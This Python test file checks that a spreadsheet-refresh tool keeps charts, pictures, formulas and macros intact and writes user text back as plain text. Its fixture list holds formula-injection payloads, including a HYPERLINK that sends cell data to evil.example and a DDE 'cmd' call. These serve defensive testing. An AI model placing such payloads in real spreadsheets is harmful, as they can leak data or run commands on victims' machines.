"""Issue 6 and 10: what a rebuild would have dropped (charts, pictures, formulas, macros) is
kept by the in-place edit, and text from the input always comes back as text — issue 6
acceptance 5, the formula-injection strings of the checklist."""

from __future__ import annotations

import copy
import re
import shutil
import struct
import zipfile
import zlib
from pathlib import Path

import openpyxl
import pytest
import python_calamine

from sheetplan.reader import sheet_parts

from workbooks import minimal_plan, write_workbook

INJECTIONS = [
    '=HYPERLINK("http://evil.example/"&A2,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "http://evil.example/x",
    "mailto:a@b.example",
    "external:c:\\evil.exe",
    "_x0041_",
    "bell\x07here",
]
RISKY = ("=", "+", "-", "@", "\t", "\r")


def tiny_png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\x00\x00")
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


def plan_with(path: Path, extra) -> Path:
    """minimal_plan, then `extra(book)` adds the user's own content."""
    return write_workbook(path, minimal_plan(), extra=extra)


def with_chart(book) -> None:
    sheet = book.add_worksheet("My chart")
    sheet.write_column(0, 0, [1, 2, 3])
    chart = book.add_chart({"type": "line"})
    chart.add_series({"values": "='My chart'!$A$1:$A$3"})
    sheet.insert_chart("C2", chart)


def with_picture(tmp: Path):
    def extra(book) -> None:
        image = tmp / "logo.png"
        image.write_bytes(tiny_png())
        book.add_worksheet("Brand").insert_image("B2", str(image))

    return extra


def with_formula(book) -> None:
    sheet = book.add_worksheet("Sums")
    sheet.write_number(0, 0, 2)
    sheet.write_formula(1, 0, "=A1*2", None, 4)


def with_macros(path: Path) -> Path:
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    parts["xl/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return path


def members(path: Path) -> dict[str, tuple[int, int]]:
    with zipfile.ZipFile(path) as archive:
        return {i.filename: (i.CRC, i.file_size) for i in archive.infolist()}


@pytest.mark.parametrize(
    ("make", "parts"),
    [
        (lambda p, t: plan_with(p, with_chart), ("xl/charts/chart1.xml",)),
        (lambda p, t: plan_with(p, with_picture(t)), ("xl/media/image1.png",)),
        (lambda p, t: plan_with(p, with_formula), ()),
        (lambda p, t: with_macros(plan_with(p, lambda b: None)), ("xl/vbaProject.bin",)),
    ],
    ids=["chart", "picture", "formula", "macros"],
)
def test_content_a_rebuild_would_lose_is_kept_in_place(run_cli, tmp_path, make, parts):
    """Issue 10: charts, pictures, formulas and macros no longer send the refresh elsewhere:
    the workbook is edited, and their parts come back byte for byte."""
    plan = make(tmp_path / "plan.xlsx", tmp_path)
    before = members(plan)
    result = run_cli("refresh", plan, catch=False)
    assert result.exit_code == 0, result.output
    assert "instead" not in result.stdout
    assert not (tmp_path / "plan (refreshed).xlsx").exists()
    assert len(list((tmp_path / "sheetplan backups").iterdir())) == 1
    after = members(plan)
    for part in parts:
        assert after[part] == before[part]
    with zipfile.ZipFile(plan) as archive:
        sums = (
            next((n for n in archive.namelist() if b"A1*2" in archive.read(n)), None)
            if not parts
            else None
        )
    if not parts:  # the formula keeps its text and its cached result
        assert sums is not None and after[sums] == before[sums]
        with zipfile.ZipFile(plan) as archive:
            assert b"<f>A1*2</f><v>4</v>" in archive.read(sums)


def test_a_refreshed_workbook_refreshes_in_place_again(run_cli, tmp_path):
    """The Dashboard's own charts are sheetplan's: they never count as the user's."""
    plan = write_workbook(tmp_path / "plan.xlsx", minimal_plan())
    assert run_cli("refresh", plan).exit_code == 0
    with zipfile.ZipFile(plan) as archive:
        assert any(n.startswith("xl/charts/") for n in archive.namelist())
    result = run_cli("refresh", plan, catch=False)
    assert result.exit_code == 0
    assert "instead" not in result.stdout
    assert not (tmp_path / "plan (refreshed).xlsx").exists()


def test_a_value_excel_cannot_store_is_left_as_the_user_wrote_it(run_cli, tmp_path):
    """A NaN written by a script into the log: the refresh no longer rewrites the log, so
    nothing has to be dropped or diverted; the cell stays exactly as it was."""
    plan = write_workbook(tmp_path / "plan.xlsx", minimal_plan())
    with zipfile.ZipFile(plan) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    sheet = "xl/worksheets/sheet7.xml"  # Actuals
    parts[sheet] = parts[sheet].replace(
        b"</sheetData>", b'<row r="5"><c r="F5"><v>NaN</v></c></row></sheetData>'
    )
    with zipfile.ZipFile(plan, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    before = members(plan)
    result = run_cli("refresh", plan, catch=False)
    assert result.exit_code == 0, result.output
    assert "instead" not in result.stdout
    assert members(plan)[sheet] == before[sheet]
    with zipfile.ZipFile(plan) as archive:
        assert b'<c r="F5"><v>NaN</v></c>' in archive.read(sheet)


def injection_plan(path: Path) -> Path:
    sheets = copy.deepcopy(minimal_plan())
    sheets["Goals"][1][3] = INJECTIONS[0]  # a goal name: reaches the Dashboard and reports
    sheets["Tactics"][0].append("Idea")
    for row, text in zip(sheets["Tactics"][1:], INJECTIONS[1:3], strict=True):
        row.append(text)
    sheets["Ideas"] = [["Idea"], *[[text] for text in INJECTIONS]]

    def note(book) -> None:
        book.get_worksheet_by_name("Ideas").write_comment("A2", INJECTIONS[1])

    return write_workbook(path, sheets, formulas=False, extra=note)


def test_formula_injection_strings_come_back_as_text(run_cli, tmp_path):
    plan = injection_plan(tmp_path / "plan.xlsx")
    before = members(plan)
    out = tmp_path / "out.xlsx"
    result = run_cli("refresh", plan, "-o", out, catch=False)
    assert result.exit_code == 0, result.output

    with zipfile.ZipFile(out) as archive:
        names = archive.namelist()
        formulas = []
        for name in names:
            if name.endswith(".xml"):
                formulas += re.findall(rb"<f[^>]*>(.*?)</f>", archive.read(name), re.S)
        rels = b"".join(archive.read(n) for n in names if n.endswith(".rels"))
    assert not any(b"evil" in f or b"cmd" in f or b"SUM(1)" in f for f in formulas)
    assert b"relationships/hyperlink" not in rels

    ideas = python_calamine.CalamineWorkbook.from_path(str(out)).get_sheet_by_name("Ideas")
    assert [row[0] for row in ideas.to_python()[1:]] == INJECTIONS
    after = members(out)
    with zipfile.ZipFile(out) as archive:
        ideas_part = sheet_parts(archive)["Ideas"]
    assert after[ideas_part] == before[ideas_part]  # the user's sheet, byte for byte

    book = openpyxl.load_workbook(out)
    ws = book["Ideas"]
    for row in range(2, len(INJECTIONS) + 2):
        cell = ws.cell(row, 1)
        assert cell.data_type == "s"
        assert cell.hyperlink is None
    assert ws["A2"].comment is not None and ws["A2"].comment.text.startswith(INJECTIONS[1])
    tactics = book["Tactics"]
    idea = next(c.column for c in tactics[1] if c.value == "Idea")
    for row, text in zip((2, 3), INJECTIONS[1:3], strict=True):
        cell = tactics.cell(row, idea)
        assert (cell.value, cell.data_type) == (text, "s")
    goals = book["Goals"]
    name = next(c for c in goals["D"] if c.value == INJECTIONS[0])
    assert name.data_type == "s"
    # where sheetplan itself writes the goal name (reports, Dashboard), it is text
    shown = [
        c
        for name in ("Dashboard", "Allocation", "Trend")
        for row in book[name].iter_rows()
        for c in row
        if "HYPERLINK" in str(c.value)
    ]
    assert len(shown) >= 3 and all(c.data_type == "s" for c in shown)
    assert all(c.quotePrefix for c in shown if str(c.value).startswith(RISKY))


def test_the_formula_text_never_reaches_a_chart_or_the_dashboard_as_a_formula(run_cli, tmp_path):
    plan = injection_plan(tmp_path / "plan.xlsx")
    out = tmp_path / "out.xlsx"
    assert run_cli("refresh", plan, "-o", out).exit_code == 0
    shutil.copyfile(out, tmp_path / "copy.xlsx")
    book = openpyxl.load_workbook(tmp_path / "copy.xlsx")
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    assert "evil" not in str(cell.value) and "cmd" not in str(cell.value)


def test_a_sheet_name_excel_refuses_is_left_as_the_user_has_it(run_cli, tmp_path):
    """A file not written by Excel can hold names Excel refuses; the refresh does not rename
    the user's sheet (it edits only its own parts), and does not fail on it."""
    plan = write_workbook(tmp_path / "plan.xlsx", {**minimal_plan(), "Ideas": [["Idea"], ["x"]]})
    with zipfile.ZipFile(plan) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    odd = "Q3/Q4: ideas? [draft] for the whole team"  # 40 characters, five refused ones
    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(
        b'name="Ideas"', f'name="{odd}"'.encode()
    )
    with zipfile.ZipFile(plan, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    out = tmp_path / "out.xlsx"
    result = run_cli("refresh", plan, "-o", out, catch=False)
    assert result.exit_code == 0, result.output
    book = python_calamine.CalamineWorkbook.from_path(str(out))
    assert odd in book.sheet_names
    assert book.get_sheet_by_name(odd).to_python() == [["Idea"], ["x"]]


def test_a_macro_workbook_stays_a_macro_workbook_refreshed_in_place(run_cli, tmp_path):
    plan = with_macros(plan_with(tmp_path / "plan.xlsm", lambda book: None))
    before = members(plan)
    result = run_cli("refresh", plan, catch=False)
    assert result.exit_code == 0, result.output
    assert "instead" not in result.stdout
    assert members(plan)["xl/vbaProject.bin"] == before["xl/vbaProject.bin"]
    assert not (tmp_path / "plan (refreshed).xlsx").exists()
    assert not (tmp_path / "plan (refreshed).xlsm").exists()
